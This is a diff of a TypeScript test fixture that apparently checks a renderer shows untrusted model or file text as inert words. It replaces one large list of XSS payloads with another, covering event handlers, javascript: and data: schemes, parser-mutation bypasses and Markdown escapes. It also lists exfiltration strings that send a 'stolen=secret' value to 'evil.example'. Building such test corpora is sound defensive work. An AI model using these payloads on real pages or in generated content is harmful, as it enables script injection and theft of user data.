@@ -1,147 +1,109 @@
-// Strings that a model, a file name or an endpoint may say and that must stay words: no script, no request.
-//
-// A script that ran has set `cmtRan`; a request that left went to FOREIGN.
+// Text that wants to run or to be fetched. Whoever may have written it (a model, a file, a session's name, an error), it
+// is shown as text: no element, no attribute and no request may come of it.
 
-export const FOREIGN = "foreign.example";
-const RUN = "window.cmtRan=1";
-const AWAY = `https://${FOREIGN}/q`;
+/** The host to which nothing may ever be sent. */
+export const ENEMY = "evil.example";
+
+const CALL = "alert(1)";
 
 const EVENTS = [
-  "onload", "onerror", "onfocus", "onmouseover", "onclick", "onanimationstart", "ontoggle", "onpointerenter",
-  "onbeforeinput", "ontransitionend", "onscroll", "onwheel", "oncopy", "onpaste", "onkeydown", "onblur",
-]; // prettier-ignore
-const BEARERS = [
-  "img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe src=about:blank",
-  "object data=x", "math", "a href=# tabindex=0 autofocus", "marquee",
-]; // prettier-ignore
+  "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onanimationstart", "onpointerenter", "onwheel", "oncopy", "onpaste",
+  "onbeforetoggle", "onscrollend", "ontransitionend", "onmessage", "onhashchange", "onresize",
+];
 
-/** Every bearer with every event: 192 strings. */
-const handlers = BEARERS.flatMap((bearer) => EVENTS.map((event) => `<${bearer} ${event}="${RUN}">x</${bearer.split(" ")[0]}>`));
+const HOSTS = ["img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "audio src=x", "iframe", "a href=#", "div style=animation-name:x"];
 
 const SCHEMES = [
-  `javascript:${RUN}`,
-  `JaVaScRiPt:${RUN}`,
-  `java\tscript:${RUN}`,
-  `java&#10;script:${RUN}`,
-  `&#106;avascript:${RUN}`,
-  `\u0001javascript:${RUN}`,
-  `javascript&colon;${RUN}`,
-  `vbscript:${RUN}`,
-  `data:text/html,<script>${RUN}</script>`,
-  `data:image/svg+xml,<svg onload=${RUN}>`,
-  "command:workbench.action.terminal.new",
-  "vscode://cmt-lsp.cmt-lsp/run",
-];
-const links = SCHEMES.flatMap((scheme) => [
-  `[press](${scheme})`,
-  `[press](<${scheme}> "title")`,
-  `<a href="${scheme}">press</a>`,
-  `<form action="${scheme}"><button>press</button></form>`,
-  `<iframe src="${scheme}"></iframe>`,
-]);
-
-const MUTATIONS = [
-  `<script>${RUN}</script>`,
-  `<script src="data:text/javascript,${RUN}"></script>`,
-  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
-  `<script\n>${RUN}</script\n>`,
-  `<SCRIPT/x>${RUN}</SCRIPT>`,
-  `<svg><script>${RUN}</script></svg>`,
-  `<svg><script href="data:,${RUN}"/></svg>`,
-  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
-  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
-  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
-  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
-  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
-  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
-  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
-  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
-  `<template><script>${RUN}</script></template>`,
-  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
-  `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
-  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
-  `<embed src="data:text/html,<script>${RUN}</script>">`,
-  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
-  `<base href="javascript:${RUN}//">`,
-  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${RUN}>x</b>`,
-  `<style>*{background:url("javascript:${RUN}")}</style>`,
-  `<link rel=stylesheet href="data:text/css,*{color:red}">`,
-  `<xmp><p title="</xmp><svg/onload=${RUN}>"></xmp>`,
-  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
-  `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
-  `<!--><img src=x onerror=${RUN}>-->`,
-  `<!-- --!><img src=x onerror=${RUN}> -->`,
-  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
-  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
-  `"><img src=x onerror=${RUN}>`,
-  `'-${RUN}-'`,
-  `\${${RUN}}`,
-  `{{constructor.constructor('${RUN}')()}}`,
-  "`<img src=x onerror=" + RUN + ">`",
-  "```html\"><img src=x onerror=" + RUN + ">\n<b>\n```",
-  "```\n</code></pre><img src=x onerror=" + RUN + ">\n```",
-  `![" onerror="${RUN}](x)`,
-  `![x](x" onerror="${RUN})`,
-  `[x](x" onmouseover="${RUN})`,
-  `[x]: javascript:${RUN}\n\n[press][x]`,
-  `<javascript:${RUN}>`,
-  `| <img src=x onerror=${RUN}> | a |\n| --- | --- |\n| <script>${RUN}</script> | b |`,
-  `# <img src=x onerror=${RUN}>`,
-  `&lt;img src=x onerror=${RUN}&gt;`,
-  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
-  `\u202e<img src=x onerror=${RUN}>\u202c`,
-  `<img src=x\u0000 onerror=${RUN}>`,
-  `<img/src=x/onerror=${RUN}>`,
+  "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\u0001javascript:", "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:",
+  "vbscript:", "data:text/html,", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "blob:", "filesystem:",
+  "command:workbench.action.terminal.new?", "vscode://file/", "vscode-webview://", "file:///etc/passwd#", "view-source:javascript:", "feed:javascript:", "livescript:",
 ];
 
-/** More than 300 strings that run a script where they are taken for markup. */
-export const SCRIPTS: readonly string[] = [...handlers, ...links, ...MUTATIONS];
-
-const SOURCES = [
-  "img src", "img srcset", "image src", "video src", "video poster", "audio src", "source src", "track src", "embed src",
-  "object data", "iframe src", "frame src", "script src", "input type=image src", "body background", "table background",
-  "td background", "link rel=stylesheet href", "link rel=prefetch href", "link rel=preload as=image href",
-  "link rel=dns-prefetch href", "link rel=preconnect href", "link rel=icon href", "link rel=modulepreload href",
-  "bgsound src", "applet code", "portal src", "html manifest",
-]; // prettier-ignore
-const STYLES = [
-  "background:url", "background-image:url", "list-style-image:url", "border-image:url", "cursor:url", "content:url",
-  "mask-image:url", "filter:url", "shape-outside:url", "clip-path:url", "offset-path:url",
-]; // prettier-ignore
-
-const elements = SOURCES.map((source) => `<${source}="${AWAY}?element">x`);
-const bare = SOURCES.map((source) => `<${source}=//${FOREIGN}/q?bare>x`);
-const styled = STYLES.map((style) => `<p style="${style}('${AWAY}?style')">x</p>`);
-const sheets = STYLES.map((style) => `<style>*{${style}('${AWAY}?sheet')}</style>`);
-const OTHERS = [
-  `![x](${AWAY}?markdown)`,
-  `![x](//${FOREIGN}/q)`,
-  `![x](\\\\${FOREIGN}\\q)`,
-  `![x](http://${FOREIGN}/q)`,
-  `![x](HTTPS://${FOREIGN.toUpperCase()}/q)`,
-  `![x](<${AWAY}?a b>)`,
-  `![x](${AWAY}?title "title")`,
-  `![x][r]\n\n[r]: ${AWAY}?reference`,
-  `[![x](${AWAY}?inside)](${AWAY})`,
-  `- ![x](${AWAY}?list)`,
-  `> ![x](${AWAY}?quote)`,
-  `| ![x](${AWAY}?cell) |\n| --- |`,
-  `# ![x](${AWAY}?heading)`,
-  `![x](https://127.0.0.1@${FOREIGN}/q)`,
-  `![x](ftp://${FOREIGN}/q)`,
-  `![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${AWAY}?svg'/></svg>)`,
-  `<svg><image href="${AWAY}?svg"/></svg>`,
-  `<svg><use href="${AWAY}?use#x"/></svg>`,
-  `<svg><filter id=f><feImage href="${AWAY}?fe"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
-  `<svg><style>@import '${AWAY}?import';</style></svg>`,
-  `<style>@import url(${AWAY}?import);</style>`,
-  `<style>@font-face{font-family:x;src:url(${AWAY}?font)}*{font-family:x}</style>`,
-  `<a href="${AWAY}?ping" ping="${AWAY}?ping">x</a>`,
-  `<meta http-equiv=refresh content="0;url=${AWAY}?refresh">`,
-  `<base href="${AWAY}/"><img src=x>`,
-  `<form action="${AWAY}?form"><input name=q autofocus></form>`,
+const ELEMENTS = [
+  `<script>${CALL}</script>`, `<ScRiPt>${CALL}</sCrIpT>`, `<script src=//${ENEMY}/x.js></script>`, `<script\u000d>${CALL}</script>`, `<<script>${CALL}//<</script>`,
+  `<script type=module>${CALL}</script>`, `</textarea><script>${CALL}</script>`, `</title><script>${CALL}</script>`, `--><script>${CALL}</script>`, `]]><script>${CALL}</script>`,
+  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`, `<iframe src="javascript:${CALL}"></iframe>`, `<object data="javascript:${CALL}"></object>`,
+  `<embed src="javascript:${CALL}">`, `<form action="javascript:${CALL}"><button>x</button></form>`, `<button formaction="javascript:${CALL}">x</button>`,
+  `<base href="javascript:${CALL}//">`, `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<link rel=import href=//${ENEMY}>`,
+  `<svg><script>${CALL}</script></svg>`, `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
+  `<svg><set attributeName=href to="javascript:${CALL}">`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x">`, `<svg><foreignObject><body onload=${CALL}>`,
+  `<math><mtext></table><mglyph><style><img src onerror=${CALL}>`, `<math href="javascript:${CALL}">x</math>`, `<math><maction actiontype="statusline#" xlink:href="javascript:${CALL}">x`,
+  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<template><img src=x onerror=${CALL}></template>`, `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
+  `<style>@import '//${ENEMY}/x.css'</style>`, `<style>*{background:url(//${ENEMY})}</style>`, `<table background="javascript:${CALL}">`, `<marquee onstart=${CALL}>`,
+  `<isindex type=image src=x onerror=${CALL}>`, `<keygen autofocus onfocus=${CALL}>`, `<dialog open onclose=${CALL}>`, `<a href="javascript:${CALL}">x</a>`,
+  `<a id=x><a id=x name=y href="cid:x">clobber</a>`, `<form id=root><input name=innerHTML>`, `<img name=getElementById>`, `<form name=fake><input name=posted></form>`,
+  `<select><noembed></select><script>${CALL}</script>`, `<frameset onload=${CALL}>`, `<a href="x" style="position:fixed;inset:0">cover</a>`, `<custom-element onclick=${CALL}>`,
+  `{{constructor.constructor('${CALL}')()}}`, `\${${CALL}}`, `<%= ${CALL} %>`, `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${CALL}//'>`,
+  `"><img src=x onerror=${CALL}>`, `'><img src=x onerror=${CALL}>`, `\`><img src=x onerror=${CALL}>`, `" onmouseover=${CALL} x="`, `' autofocus onfocus=${CALL} x='`,
+  `&lt;img src=x onerror=${CALL}&gt;`, `&#60;script&#62;${CALL}&#60;/script&#62;`, `%3Cscript%3E${CALL}%3C/script%3E`, `\\u003cscript\\u003e${CALL}`, `+ADw-script+AD4-${CALL}`,
+  `<img src=x:x onerror\u000c=${CALL}>`, `<img/src=x/onerror=${CALL}>`, `<img src=x onerror="&#97;lert(1)">`, `<IMG """><SCRIPT>${CALL}</SCRIPT>">`, `<img src=\`x\` onerror=${CALL}>`,
 ];
 
-/** More than 100 strings that fetch something from elsewhere where they are taken for markup. */
-export const FETCHES: readonly string[] = [...elements, ...bare, ...styled, ...sheets, ...OTHERS];
+const MARKDOWN = [
+  (scheme: string) => `[x](${scheme}${CALL})`,
+  (scheme: string) => `[x](<${scheme}${CALL}>)`,
+  (scheme: string) => `![x](${scheme}${CALL})`,
+  (scheme: string) => `[x][y]\n\n[y]: ${scheme}${CALL}`,
+  (scheme: string) => `<${scheme}${CALL}>`,
+];
+
+const FENCES = [
+  `\`\`\`"><img src=x onerror=${CALL}>\ncode\n\`\`\``, `\`\`\`html\n<script>${CALL}</script>\n\`\`\``, `~~~'onclick=${CALL}\ncode\n~~~`, `\`\`\`js class="x" onload=${CALL}\n1\n\`\`\``,
+  `\`\`\`xml\n<a b="&quot;><img src=x onerror=${CALL}>">\n\`\`\``, `\`<img src=x onerror=${CALL}>\``, `| a | b |\n|:-"onload=${CALL}|-|\n| <img src=x onerror=${CALL}> | 2 |`,
+  `# <img src=x onerror=${CALL}>`, `> <svg onload=${CALL}>`, `- <script>${CALL}</script>`, `[<img src=x onerror=${CALL}>](https://a.example)`,
+  `[x](https://a.example "x\\" onmouseover=${CALL} y")`, `![" onerror=${CALL} x](https://a.example/x.png)`, `https://a.example/"onmouseover=${CALL}`, `[x](https://a.example/\`onclick=${CALL})`,
+];
+
+/** Strings that try to run something. */
+export const XSS: readonly string[] = [
+  ...ELEMENTS,
+  ...EVENTS.flatMap((event) => HOSTS.map((host) => `<${host} ${event}=${CALL}>`)),
+  ...SCHEMES.flatMap((scheme) => MARKDOWN.map((form) => form(scheme))),
+  ...FENCES,
+];
+
+const SECRET = `//${ENEMY}/?stolen=secret`;
+
+const FETCHES = [
+  (url: string) => `![x](${url})`,
+  (url: string) => `![x](<${url}> "title")`,
+  (url: string) => `![x][y]\n\n[y]: ${url}`,
+  (url: string) => `[![x](${url})](${url})`,
+  (url: string) => `<img src="${url}">`,
+  (url: string) => `<img srcset="${url} 2x">`,
+  (url: string) => `<picture><source srcset="${url}"><img></picture>`,
+  (url: string) => `<video poster="${url}"><source src="${url}"></video>`,
+  (url: string) => `<audio src="${url}" autoplay>`,
+  (url: string) => `<link rel=stylesheet href="${url}">`,
+  (url: string) => `<link rel=prefetch href="${url}">`,
+  (url: string) => `<link rel=dns-prefetch href="${url}">`,
+  (url: string) => `<link rel=preconnect href="${url}">`,
+  (url: string) => `<iframe src="${url}"></iframe>`,
+  (url: string) => `<object data="${url}"></object>`,
+  (url: string) => `<embed src="${url}">`,
+  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
+  (url: string) => `<form action="${url}"><input name=a value=b></form>`,
+  (url: string) => `<a href="${url}" ping="${url}">x</a>`,
+  (url: string) => `<svg><image href="${url}"/></svg>`,
+  (url: string) => `<svg><use href="${url}#x"/></svg>`,
+  (url: string) => `<svg><feImage href="${url}"/></svg>`,
+  (url: string) => `<div style="background:url(${url})">x</div>`,
+  (url: string) => `<style>@font-face{font-family:x;src:url(${url})}</style>`,
+  (url: string) => `<input type=image src="${url}">`,
+  (url: string) => `<body background="${url}">`,
+  (url: string) => `<table background="${url}"><tr><td>x</table>`,
+  (url: string) => `<track src="${url}">`,
+  (url: string) => `[x](${url})`,
+  (url: string) => `<${url}>`,
+  (url: string) => `${url}`,
+  (url: string) => `\`\`\`mermaid\ngraph TD; A[<img src=${url}>]\n\`\`\``,
+  (url: string) => `<portal src="${url}">`,
+  (url: string) => `<script type=speculationrules>{"prefetch":[{"urls":["${url}"]}]}</script>`,
+];
+
+const WAYS = [`https:${SECRET}`, `http:${SECRET}`, SECRET, `https://user:pass@${ENEMY}/a.png?q=%s`];
+
+/** Strings that try to send something away. */
+export const EXFILTRATION: readonly string[] = FETCHES.flatMap((form) => WAYS.map((url) => form(url)));
+
+export const HOSTILE: readonly string[] = [...XSS, ...EXFILTRATION];
